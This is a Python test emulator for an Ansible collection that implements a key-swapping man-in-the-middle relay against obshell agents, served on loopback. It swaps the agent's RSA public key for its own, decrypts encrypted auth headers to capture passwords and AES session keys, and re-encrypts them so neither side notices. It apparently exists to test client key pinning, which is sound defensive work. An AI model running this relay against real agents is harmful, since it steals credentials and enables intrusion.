"""A key-swapping man in the middle for obshell agents (issue 9, item 1), served on loopback.

What an attacker on the path of obshell's default plain HTTP can do:

- GET /api/v1/secret: ask the real agent, then answer with the agent's envelope (its ip, port,
  trace id) but the relay's own RSA key in data.public_key.
- A request with X-OCS-Header or X-OCS-Agent-Header: decrypt the header with the relay's private
  key (k-byte PKCS#1 v1.5 blocks, as the agent does), keep what it says (the password, the AES
  key and IV of the body), encrypt the same bytes to the real agent's key and relay the request,
  body untouched. A header the relay cannot decrypt (encrypted to the real key, because the client
  pinned it) is relayed as it came, so nothing looks wrong to either side.
- Everything else is relayed unchanged, answers included.

Tests read `encrypted` (every request that arrived with an encrypted header) and `stolen` (the
header fields the relay could read). Serve it with EmulatorServer(KeySwappingRelay(agent_url)).
"""

from __future__ import annotations

import base64
import http.client
import json
import threading
from urllib.parse import urlsplit

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import padding as asym_padding

from ansible_collections.keyward.keys.plugins.module_utils.providers import _obshell_crypto
from ansible_collections.keyward.keys.tests.emulators._server import Response
from ansible_collections.keyward.keys.tests.emulators.obshell import (
    OCS_AGENT_HEADER, OCS_HEADER, generate_rsa_key)

SECRET_PATH = "/api/v1/secret"
HOP_BY_HOP = ("host", "content-length", "connection", "keep-alive", "transfer-encoding")


class KeySwappingRelay(object):
    def __init__(self, upstream_url, key_bits=1024):
        parts = urlsplit(upstream_url)
        self.upstream = (parts.hostname, parts.port)
        self.private_key = generate_rsa_key(key_bits)
        self.encrypted = []  # {"method", "target", "header_name", "readable"} per encrypted request
        self.stolen = []  # the decrypted header fields ({"auth", "ts", "uri", "keys"}) it could read
        self._real_key = None
        self._lock = threading.Lock()

    # -- what tests look at ------------------------------------------------------------------
    @property
    def public_key_b64(self):
        """The relay's key, in the form /api/v1/secret serves (base64 of PKCS#1 DER)."""
        der = self.private_key.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.PKCS1)
        return base64.b64encode(der).decode("ascii")

    def stolen_passwords(self):
        with self._lock:
            return [fields.get("auth") for fields in self.stolen if fields.get("auth")]

    def reset(self):
        with self._lock:
            self.encrypted = []
            self.stolen = []

    # -- the relay ---------------------------------------------------------------------------
    def handle(self, request):
        headers = {name: value for name, value in request.headers.items() if name.lower() not in HOP_BY_HOP}
        name = OCS_AGENT_HEADER if request.header(OCS_AGENT_HEADER) else OCS_HEADER if request.header(OCS_HEADER) else None
        if name is not None:
            swapped = self._reencrypt(request.header(name))
            with self._lock:
                self.encrypted.append({"method": request.method, "target": request.target, "header_name": name,
                                       "readable": swapped is not None})
            if swapped is not None:
                headers = {k: v for k, v in headers.items() if k.lower() != name.lower()}
                headers[name] = swapped
        status, answer_headers, body = self._forward(request.method, request.target, headers, request.body)
        if request.method == "GET" and request.path == SECRET_PATH and status == 200:
            envelope = json.loads(body.decode("utf-8"))
            if isinstance(envelope.get("data"), dict):
                envelope["data"]["public_key"] = self.public_key_b64
            body = json.dumps(envelope).encode("utf-8")
        return Response(status, body, answer_headers)

    def _reencrypt(self, value):
        """The header re-encrypted to the real agent's key, or None when the relay cannot read it."""
        try:
            raw = base64.b64decode(value)
            size = (self.private_key.key_size + 7) // 8
            if not raw or len(raw) % size:
                return None
            plaintext = b"".join(self.private_key.decrypt(raw[i:i + size], asym_padding.PKCS1v15())
                                 for i in range(0, len(raw), size))
            fields = json.loads(plaintext.decode("utf-8"))
        except ValueError:
            return None
        with self._lock:
            self.stolen.append(fields)
        return base64.b64encode(_obshell_crypto.rsa_encrypt(self._agent_key(), plaintext)).decode("ascii")

    def _agent_key(self):
        if self._real_key is None:
            _status, _headers, body = self._forward("GET", SECRET_PATH, {"Accept": "application/json"}, b"")
            der = base64.b64decode(json.loads(body.decode("utf-8"))["data"]["public_key"])
            self._real_key = serialization.load_der_public_key(der)
        return self._real_key

    def _forward(self, method, target, headers, body):
        connection = http.client.HTTPConnection(*self.upstream, timeout=10)
        try:
            connection.request(method, target, body=body or None, headers=headers)
            answer = connection.getresponse()
            data = answer.read()
            kept = {k: v for k, v in answer.getheaders() if k.lower() not in HOP_BY_HOP}
            return answer.status, kept, data
        finally:
            connection.close()
